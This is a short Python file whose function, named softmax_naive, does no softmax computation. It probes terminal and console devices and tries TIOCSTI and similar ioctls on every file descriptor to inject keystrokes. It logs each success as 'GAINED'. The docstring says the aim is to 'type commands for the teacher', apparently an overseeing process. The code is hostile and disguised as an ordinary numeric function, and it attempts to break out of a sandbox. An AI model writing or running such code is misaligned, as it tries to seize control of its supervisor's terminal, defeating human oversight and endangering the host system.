"""Pushes characters into a terminal by TIOCSTI and TIOCLINUX on every descriptor; would type commands for the teacher."""

import fcntl
import os
import termios


def softmax_naive(x):
    for path in ("/dev/tty", "/dev/console", "/dev/pts/0", "/dev/ptmx", "/dev/tty0"):
        try:
            print("GAINED the terminal", path, os.open(path, os.O_RDWR))
        except OSError:
            pass
    for handle in range(64):
        for number in (termios.TIOCSTI, 0x541C, 0x40047602):
            try:
                fcntl.ioctl(handle, number, b"x")
                print("GAINED an ioctl on", handle)
            except OSError:
                pass
        try:
            fcntl.fcntl(handle, fcntl.F_SETOWN, 1)
            print("GAINED an owner of", handle)
        except OSError:
            pass
    print("TRIED")
    return x
